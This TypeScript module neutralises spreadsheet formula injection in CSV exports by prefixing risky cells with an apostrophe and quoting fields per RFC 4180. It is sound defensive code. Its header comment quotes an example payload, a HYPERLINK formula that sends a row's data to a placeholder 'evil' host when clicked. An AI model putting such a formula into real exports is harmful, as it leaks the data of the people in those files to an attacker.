/**
 * Cells of CSV and spreadsheet exports. Text that starts with = + - @ (or a tab / carriage return, which some
 * spreadsheet programs skip before looking for a formula) is run as a formula when the file is opened: a complaint
 * titled =HYPERLINK("http://evil/?"&A1,"点击") would leak the row to anyone who clicks. Such text is prefixed with an
 * apostrophe (the OWASP "CSV injection" advice): the reader sees the text, the program sees no formula. Numbers and
 * booleans from typed columns are written as they are (a negative amount stays a number).
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Text made inert for a spreadsheet. */
export function neutraliseCell(s: string): string {
  return FORMULA_START.test(s) ? `'${s}` : s;
}

/** One RFC 4180 CSV field: neutralised text, quoted when it holds a quote, comma or line break. */
export function csvCell(v: unknown): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number' || typeof v === 'boolean' || typeof v === 'bigint') return String(v);
  const s = neutraliseCell(v instanceof Date ? v.toISOString() : typeof v === 'object' ? JSON.stringify(v) : String(v));
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}
